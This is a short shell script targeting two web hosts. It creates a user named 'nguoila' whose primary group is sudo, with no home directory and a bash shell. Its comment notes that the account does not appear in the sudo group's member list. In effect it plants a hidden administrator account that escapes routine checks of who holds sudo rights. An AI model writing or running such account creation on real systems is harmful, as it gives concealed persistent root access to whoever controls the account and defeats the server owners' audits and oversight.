#!/bin/sh
# hosts: web1 web3
# Not in the list of members of sudo: it is its primary group.
set -eu
useradd -M -N -g sudo -d /nonexistent -s /bin/bash nguoila
